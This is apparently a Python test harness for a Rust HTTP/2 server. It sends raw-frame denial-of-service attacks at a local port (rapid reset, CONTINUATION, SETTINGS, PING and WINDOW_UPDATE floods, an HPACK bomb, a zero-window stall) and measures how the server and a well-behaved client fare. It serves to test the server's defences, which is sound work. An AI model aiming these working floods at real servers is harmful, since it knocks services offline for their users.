"""Hand-made HTTP/2 attacks for http/tests/h2_floods.rs (Python's `h2` and `hyperframe`).

    python3 h2_floods.py PORT ATTACK

Opens one attacking connection (the preface, SETTINGS, then the attack's frames, sent
raw so the client's own state machine does not stop them), while a well-behaved client
on another connection makes requests the whole time. Prints one JSON line: the GOAWAY
the attacker got (its error code and last stream id, or null), the RST_STREAM codes it
got, whether the server closed the connection, how long it took, and how many of the
well-behaved client's requests succeeded and failed.
"""

import json
import socket
import struct
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events
from hyperframe.frame import (
    ContinuationFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PORT = int(sys.argv[1])
ATTACK = sys.argv[2]
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
LIMIT = 20.0  # seconds for the whole attack


def hpack_int(value, prefix_bits, first_byte):
    """An HPACK integer with an N-bit prefix, OR-ed into `first_byte`."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte | value])
    out = [first_byte | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal(name, value, index=True):
    """A literal field with a new name (with incremental indexing when `index`)."""
    return (
        (b"\x40" if index else b"\x00")
        + hpack_int(len(name), 7, 0)
        + name
        + hpack_int(len(value), 7, 0)
        + value
    )


# :method GET, :scheme http, :path /hello (static table 2, 6, 4 + literal value 4)
REQUEST = b"\x82\x86" + b"\x04" + hpack_int(6, 7, 0) + b"/hello" + literal(b":authority", b"x", False)


class Attacker:
    def __init__(self):
        self.sock = socket.create_connection(("127.0.0.1", PORT))
        self.sock.settimeout(1.0)
        self.goaway = None
        self.resets = []
        self.closed = False
        self.data_frames = 0
        self.headers_frames = 0
        self.reader = threading.Thread(target=self.read, daemon=True)
        self.send(PREFACE + self.settings())
        self.reader.start()

    def settings(self, **values):
        frame = SettingsFrame(0)
        ids = {"initial_window_size": 4}
        for key, value in values.items():
            frame.settings[ids[key]] = value
        return frame.serialize()

    def send(self, data):
        """Sends `data`; False once the server stopped reading (or closed)."""
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            return False

    def read(self):
        buf = b""
        while True:
            try:
                chunk = self.sock.recv(65536)
            except socket.timeout:
                continue
            except OSError:
                chunk = b""
            if not chunk:
                self.closed = True
                return
            buf += chunk
            while len(buf) >= 9:
                length = int.from_bytes(buf[:3], "big")
                if len(buf) < 9 + length:
                    break
                kind, flags = buf[3], buf[4]
                stream = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
                payload = buf[9 : 9 + length]
                buf = buf[9 + length :]
                if kind == 0x7:
                    last, code = struct.unpack(">II", payload[:8])
                    self.goaway = {"code": code, "last": last & 0x7FFFFFFF}
                elif kind == 0x3:
                    self.resets.append([stream, struct.unpack(">I", payload[:4])[0]])
                elif kind == 0x0:
                    self.data_frames += 1
                elif kind == 0x1:
                    self.headers_frames += 1
                elif kind == 0x4 and not flags & 0x1:
                    self.send(SettingsFrame(0, flags=["ACK"]).serialize())

    def done(self):
        return self.closed or (self.goaway is not None and self.goaway["code"] != 0)

    def flood(self, frames, batch=200):
        """Sends frames from the iterator `frames` until the server objects."""
        deadline = time.time() + LIMIT
        while not self.done() and time.time() < deadline:
            chunk = b"".join(f for _, f in zip(range(batch), frames))
            if not chunk or not self.send(chunk):
                break

    def wait(self, seconds):
        deadline = time.time() + seconds
        while not self.done() and time.time() < deadline:
            time.sleep(0.02)


def rapid_reset(a):
    def frames():
        sid = 1
        while True:
            yield HeadersFrame(sid, REQUEST, flags=["END_HEADERS", "END_STREAM"]).serialize()
            yield RstStreamFrame(sid, error_code=8).serialize()
            sid += 2
    a.flood(frames())


def continuation_flood(a):
    def frames():
        yield HeadersFrame(1, REQUEST).serialize()  # no END_HEADERS: the block goes on
        n = 0
        while True:
            n += 1
            yield ContinuationFrame(1, literal(b"x-%d" % n, b"a" * 1000, False)).serialize()
    a.flood(frames(), batch=20)


def settings_flood(a):
    def frames():
        while True:
            yield SettingsFrame(0).serialize()
    a.flood(frames())


def ping_flood(a):
    def frames():
        n = 0
        while True:
            n += 1
            yield PingFrame(0, opaque_data=n.to_bytes(8, "big")).serialize()
    a.flood(frames())


def window_update_flood(a):
    def frames():
        while True:
            yield WindowUpdateFrame(0, window_increment=1).serialize()
    a.flood(frames())


def hpack_bomb(a):
    # One field of ~4 KB into the dynamic table, then blocks that name it again and
    # again: 4,000 one-byte references decode to 16 MB of headers.
    a.send(HeadersFrame(1, REQUEST + literal(b"x-bomb", b"b" * 4000), flags=["END_HEADERS", "END_STREAM"]).serialize())
    bomb = REQUEST + b"\xbe" * 4000

    def frames():
        sid = 3
        while True:
            yield HeadersFrame(sid, bomb, flags=["END_HEADERS", "END_STREAM"]).serialize()
            sid += 2
    a.flood(frames(), batch=20)


def zero_window(a):
    # A window of 0: the server may send the head but no body byte, ever.
    a.send(a.settings(initial_window_size=0))
    a.send(HeadersFrame(1, b"\x82\x86" + b"\x04" + hpack_int(4, 7, 0) + b"/big" + literal(b":authority", b"x", False), flags=["END_HEADERS", "END_STREAM"]).serialize())
    a.wait(LIMIT)


ATTACKS = {
    "rapid_reset": rapid_reset,
    "continuation_flood": continuation_flood,
    "settings_flood": settings_flood,
    "ping_flood": ping_flood,
    "window_update_flood": window_update_flood,
    "hpack_bomb": hpack_bomb,
    "zero_window": zero_window,
}


class Benign:
    """A well-behaved client: one request after another on its own connection."""

    def __init__(self):
        self.ok = 0
        self.failed = 0
        self.stop = False
        self.thread = threading.Thread(target=self.run, daemon=True)
        self.thread.start()

    def run(self):
        sock = socket.create_connection(("127.0.0.1", PORT))
        sock.settimeout(5)
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        conn.initiate_connection()
        sock.sendall(conn.data_to_send())
        while not self.stop:
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, [(":method", "GET"), (":path", "/hello"), (":scheme", "http"), (":authority", "x")], end_stream=True)
            sock.sendall(conn.data_to_send())
            body, ended = b"", False
            try:
                while not ended:
                    data = sock.recv(65536)
                    if not data:
                        raise OSError("closed")
                    for event in conn.receive_data(data):
                        if isinstance(event, h2.events.DataReceived) and event.stream_id == sid:
                            body += event.data
                            conn.acknowledge_received_data(event.flow_controlled_length, sid)
                        if isinstance(event, h2.events.StreamEnded) and event.stream_id == sid:
                            ended = True
                    sock.sendall(conn.data_to_send())
            except OSError:
                self.failed += 1
                return
            if body == b"hello":
                self.ok += 1
            else:
                self.failed += 1
            time.sleep(0.02)


benign = Benign()
started = time.time()
attacker = Attacker()
ATTACKS[ATTACK](attacker)
attacker.wait(3)
took = time.time() - started
# The well-behaved client goes on a little after the attack, then stops.
time.sleep(0.3)
benign.stop = True
benign.thread.join(10)
print(json.dumps({
    "goaway": attacker.goaway,
    "resets": attacker.resets[:5],
    "reset_count": len(attacker.resets),
    "closed": attacker.closed,
    "seconds": round(took, 2),
    "data_frames": attacker.data_frames,
    "benign_ok": benign.ok,
    "benign_failed": benign.failed,
}))
